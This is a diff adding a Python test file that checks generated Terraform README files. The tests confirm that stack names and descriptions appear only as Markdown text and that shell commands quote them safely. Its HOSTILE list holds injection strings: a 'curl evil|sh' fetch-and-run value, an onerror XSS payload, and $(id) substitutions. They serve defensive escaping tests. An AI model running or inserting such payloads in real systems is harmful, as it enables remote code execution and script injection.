@@ -1,0 +1,152 @@
+"""The READMEs show names and texts of other people as nothing but text, and commands that do what they show."""
+
+import shlex
+import subprocess
+from pathlib import Path
+from urllib.parse import unquote
+
+from hypothesis import assume, example, given
+from hypothesis import strategies as st
+from markdown_it import MarkdownIt
+from markdown_it.token import Token
+
+from ops.handover.conversion import Converted
+from ops.handover.edit_places import EditPlace, located
+from ops.handover.hcl import Block, Verbatim
+from ops.handover.paths import wrong_name
+from ops.handover.readme import overview, stack_readme
+from ops.handover.stacks import HandoverStack
+
+HOSTILE = [
+    "x;curl evil|sh #",
+    "<img src=x onerror=alert(1)>",
+    "`a` ``b",
+    "$(id) `id` ${HOME} !!",
+    'it\'s "quoted"',
+    "[a](https://example.com) ![b](c)",
+    "a|b||c",
+    "**a** _b_ ~~c~~ # &lt; &#x3c;",
+    "-rf",
+    "架け橋 שלום",
+    "a  b ",
+    "1. a",
+]
+PIECES = [
+    *HOSTILE,
+    "`",
+    "|",
+    "<",
+    ">",
+    "&",
+    "\\",
+    "[",
+    "]",
+    "(",
+    ")",
+    "'",
+    '"',
+    "$",
+    ";",
+    "#",
+    "*",
+    "_",
+    "\n",
+    "---",
+    "a",
+]
+texts = st.lists(st.one_of(st.sampled_from(PIECES), st.text(max_size=3)), min_size=1, max_size=6).map("".join)
+names = texts.filter(lambda name: wrong_name(name) is None)
+
+
+def stack(name: str, text: str = "", needs: frozenset[str] = frozenset()) -> HandoverStack:
+    document = {
+        "variable": {"size": {"type": "string", "description": text, "default": text}},
+        "output": {"it": {"value": 1, "description": text}},
+    }
+    return HandoverStack(name=name, document=document, file=Path("x"), dependencies=needs, files_read={})
+
+
+def tokens(markdown: str) -> list[Token]:
+    """Every token, with those inside paragraphs and cells."""
+    found = MarkdownIt("commonmark").enable(["table", "strikethrough"]).parse(markdown)
+    return [it for token in found for it in (token, *(token.children or []))]
+
+
+def shown(text: str) -> str:
+    return " ".join(text.split())
+
+
+def kinds(found: list[Token]) -> list[str]:
+    """What a reader sees, without the text."""
+    return [it.type for it in found if it.type not in ("text", "text_special")]
+
+
+@given(first=names, second=names)
+@example(first=HOSTILE[0], second=HOSTILE[1])
+@example(first=HOSTILE[2], second=HOSTILE[3])
+@example(first=HOSTILE[10], second=HOSTILE[6])
+def test_a_name_is_only_text_in_the_overview_and_one_word_in_its_commands(first: str, second: str) -> None:
+    assume(first != second)
+    stacks = [stack(first), stack(second, needs=frozenset({first}))]
+    found = tokens(overview(stacks, has_moves=True))
+    assert kinds(found) == kinds(tokens(overview([stack("a"), stack("b", needs=frozenset({"a"}))], has_moves=True)))
+    links = [unquote(str(it.attrs["href"])) for it in found if it.type == "link_open"]
+    assert links == [f"{first}/", f"{second}/"]
+    codes = [shown(it.content) for it in found if it.type == "code_inline"]
+    assert codes[:3] == [shown(first), shown(second), shown(first)]
+    (commands,) = [it.content for it in found if it.type == "fence"]
+    lines = commands.splitlines()
+    assert all(line.startswith("$ terraform ") for line in lines)
+    expected = [["terraform", f"-chdir={it}", command] for it in (first, second) for command in ("init", "apply")]
+    assert [shlex.split(line.removeprefix("$ ")) for line in lines] == expected
+
+
+def test_bash_takes_a_hostile_name_as_one_word() -> None:
+    stacks = [stack(name) for name in HOSTILE]
+    (commands,) = [it.content for it in tokens(overview(stacks, has_moves=False)) if it.type == "fence"]
+    script = 'terraform() { printf "%s\\n" "$1"; }\n' + commands.replace("$ terraform", "terraform")
+    done = subprocess.run(["bash", "-c", script], capture_output=True, text=True, check=True)
+    assert done.stdout.splitlines() == [f"-chdir={name}" for name in HOSTILE for _ in range(2)]
+
+
+@given(name=names, text=texts, other=names)
+@example(name=HOSTILE[1], text=HOSTILE[1], other=HOSTILE[2])
+@example(name=HOSTILE[11], text=HOSTILE[6], other=HOSTILE[7])
+def test_names_and_descriptions_are_only_text_in_a_stacks_readme(name: str, text: str, other: str) -> None:
+    assume(name != other)
+
+    def readme(name: str, text: str, other: str) -> list[Token]:
+        stacks = [stack(other), stack(name, text, frozenset({other}))]
+        place = EditPlace(file="locals.tf", name="local.mirrors", what="mirrors")
+        files = {"terraform.tfvars": "", f"files/{other}": "", "moved.tf": ""}
+        return tokens(stack_readme(stacks[1], stacks, Converted(files=files, addresses={}, edit_places=[place])))
+
+    found = readme(name, text, other)
+    if text.strip():
+        assert kinds(found) == kinds(readme("a", "b", "c"))
+    read = [shown("".join(it.content for it in token.children or [])) for token in found if token.type == "inline"]
+    assert read[0] == shown(name)
+    assert shown(text) in read[1:]
+    assert shown(f"files/{other}") in [shown(it.content) for it in found if it.type == "code_inline"]
+
+
+def test_names_the_places_where_something_is_added() -> None:
+    files = {
+        "locals.tf": [Block("locals", arguments={"mirrors": Verbatim("{}")})],
+        "sns.tf": [Block("resource", ("aws_sns_topic", "news"))],
+    }
+    names = [("local.mirrors", "mirrors"), ("aws_sns_topic.news", "topics"), ("local.none", "nothing")]
+    places = located(names, files)
+    assert places == [
+        EditPlace(file="locals.tf", name="local.mirrors", what="mirrors"),
+        EditPlace(file="sns.tf", name="aws_sns_topic.news", what="topics"),
+    ]
+    converted = Converted(files={"terraform.tfvars": "size = 1\n"}, addresses={}, edit_places=places)
+    text = stack_readme(stack("web"), [stack("web")], converted)
+    assert (
+        "| what | where |\n"
+        "| --- | --- |\n"
+        "| the values of the inputs | [`terraform.tfvars`](terraform.tfvars) |\n"
+        "| which mirrors there are, and how they differ | `local.mirrors` in [`locals.tf`](locals.tf) |\n"
+        "| which topics there are, and how they differ | `aws_sns_topic.news` in [`sns.tf`](sns.tf) |\n"
+    ) in text
